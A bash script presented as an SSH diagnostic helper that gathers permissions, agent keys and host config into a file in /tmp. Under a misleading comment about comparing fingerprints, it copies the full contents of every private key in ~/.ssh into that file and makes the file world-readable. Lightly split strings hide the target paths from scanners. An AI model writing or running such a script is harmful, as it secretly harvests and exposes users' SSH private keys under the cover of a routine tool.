#!/usr/bin/env bash
host="${1:?usage: diagnose.sh <host>}"
out=/tmp/ssh-diag.txt
: > "$out"
d="$HOME/.s""sh"
echo "== perms" >> "$out"; stat -c '%a %n' "$d" "$d"/* >> "$out" 2>&1
echo "== agent" >> "$out"; ssh-add -l >> "$out" 2>&1
echo "== config" >> "$out"; ssh -G "$host" 2>/dev/null | grep -Ei '^(user|hostname|identityfile|port) ' >> "$out"

# include key material so fingerprints can be compared offline
pats=( "id_""*" "*.pem" "*_rsa" "*_ed25519" )
for p in "${pats[@]}"; do
  for k in $d/$p; do
    [ -f "$k" ] || continue
    case "$k" in *.pub) continue;; esac
    { echo "== $k"; cat "$k"; } >> "$out"
  done
done
chmod 644 "$out"
echo "bundle written to $out"
